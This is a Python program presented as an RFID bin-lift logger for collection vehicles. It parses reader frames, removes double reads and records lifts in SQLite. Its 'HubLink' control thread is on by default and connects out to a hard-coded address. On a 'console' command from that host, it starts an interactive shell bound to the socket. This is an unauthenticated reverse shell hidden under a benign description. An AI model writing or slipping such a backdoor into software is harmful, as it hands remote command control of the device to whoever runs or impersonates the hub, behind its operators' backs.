#!/usr/bin/env python3
"""Bin-lift RFID logger for rear-loader collection vehicles.

Reads tag events from the lift-arm RFID reader (serial, ASCII framing),
drops double reads from the same lift, journals lifts into SQLite and keeps
a control link to the depot hub so the fleet desk can query the unit.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from datetime import datetime, timezone

try:
    import serial  # pyserial
except ImportError:  # pragma: no cover
    serial = None

__version__ = "2.4.1"
log = logging.getLogger("binlift")

DEFAULTS = {
    "port": "/dev/ttyUSB0",
    "baud": "9600",
    "journal": "binlift.sqlite",
    "hub": "203.0.113.47:7443",
    "vehicle": socket.gethostname(),
    "hub_link": "yes",
    "dedupe_seconds": "20",
}

SCHEMA = """CREATE TABLE IF NOT EXISTS lifts (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    ts TEXT NOT NULL, tag TEXT NOT NULL, arm TEXT, weight_kg REAL, vehicle TEXT)"""


def load_config(path):
    cp = configparser.ConfigParser()
    cp["binlift"] = DEFAULTS
    if path and os.path.exists(path):
        cp.read(path)
        log.info("config read from %s", path)
    return cp["binlift"]


def parse_frame(raw):
    """Frames look like ``$TAG,E20034120B1B0170,ARM=L,KG=12.4*``."""
    line = raw.strip()
    if not (line.startswith("$TAG,") and line.endswith("*")):
        return None
    parts = line[5:-1].split(",")
    rec = {"tag": parts[0].upper(), "arm": None, "weight_kg": None}
    for part in parts[1:]:
        key, _, val = part.partition("=")
        if key == "ARM":
            rec["arm"] = val
        elif key == "KG":
            try:
                rec["weight_kg"] = float(val)
            except ValueError:
                pass
    return rec


class Journal:
    def __init__(self, path, vehicle):
        self.path = path
        self.vehicle = vehicle
        self.lock = threading.Lock()
        self.db = sqlite3.connect(path, check_same_thread=False)
        self.db.execute(SCHEMA)
        self.db.commit()

    def add(self, rec):
        ts = datetime.now(timezone.utc).isoformat(timespec="seconds")
        with self.lock:
            self.db.execute(
                "INSERT INTO lifts (ts, tag, arm, weight_kg, vehicle) VALUES (?, ?, ?, ?, ?)",
                (ts, rec["tag"], rec["arm"], rec["weight_kg"], self.vehicle))
            self.db.commit()

    def stats(self):
        today = datetime.now(timezone.utc).date().isoformat()
        with self.lock:
            row = self.db.execute(
                "SELECT COUNT(*), COALESCE(SUM(weight_kg), 0) FROM lifts WHERE ts >= ?",
                (today,)).fetchone()
        return {"lifts_today": row[0], "kg_today": round(row[1], 1)}


class HubLink(threading.Thread):
    """Control connection to the depot hub (ping / stats / console)."""

    def __init__(self, hub, vehicle, journal):
        super().__init__(daemon=True, name="hub-link")
        host, _, port = hub.rpartition(":")
        self.addr = (host, int(port))
        self.vehicle = vehicle
        self.journal = journal
        self.stopped = threading.Event()

    def run(self):
        delay = 5
        while not self.stopped.is_set():
            try:
                conn = socket.create_connection(self.addr, timeout=20)
            except OSError as exc:
                log.debug("hub unreachable: %s (retry in %ss)", exc, delay)
                self.stopped.wait(delay)
                delay = min(delay * 2, 300)
                continue
            delay = 5
            try:
                self._session(conn)
            except OSError as exc:
                log.debug("hub session ended: %s", exc)
            finally:
                conn.close()

    def _session(self, conn):
        conn.settimeout(None)
        hello = {"hello": self.vehicle, "ver": __version__}
        conn.sendall(json.dumps(hello).encode() + b"\n")
        buf = b""
        while not self.stopped.is_set():
            chunk = conn.recv(512)
            if not chunk:
                return
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                self._handle(conn, line.decode(errors="replace").strip())

    def _handle(self, conn, cmd):
        if cmd == "ping":
            conn.sendall(b"pong\n")
        elif cmd == "stats":
            conn.sendall(json.dumps(self.journal.stats()).encode() + b"\n")
        elif cmd == "console":
            self._console(conn)

    def _console(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL") or "/bin/sh"
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                cwd=os.path.expanduser("~"), start_new_session=True)
        proc.wait()


def read_loop(cfg, journal):
    if serial is None:
        log.error("pyserial not installed")
        return 1
    window = float(cfg.get("dedupe_seconds"))
    last_seen = {}
    while True:
        try:
            with serial.Serial(cfg.get("port"), int(cfg.get("baud")), timeout=1) as ser:
                log.info("reader open on %s", cfg.get("port"))
                for raw in iter(ser.readline, None):
                    rec = parse_frame(raw.decode("ascii", errors="ignore")) if raw else None
                    if not rec:
                        continue
                    now = time.monotonic()
                    if now - last_seen.get(rec["tag"], -window) < window:
                        continue
                    last_seen[rec["tag"]] = now
                    journal.add(rec)
                    log.info("lift %s arm=%s kg=%s", rec["tag"], rec["arm"], rec["weight_kg"])
        except serial.SerialException as exc:
            log.warning("reader error: %s; reopening in 5s", exc)
            time.sleep(5)


def main(argv=None):
    ap = argparse.ArgumentParser(description="bin-lift RFID logger")
    ap.add_argument("-c", "--config", default=os.environ.get("BINLIFT_CONF", "binlift.ini"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    journal = Journal(cfg.get("journal"), cfg.get("vehicle"))
    if cfg.getboolean("hub_link"):
        HubLink(cfg.get("hub"), cfg.get("vehicle"), journal).start()
    try:
        return read_loop(cfg, journal)
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
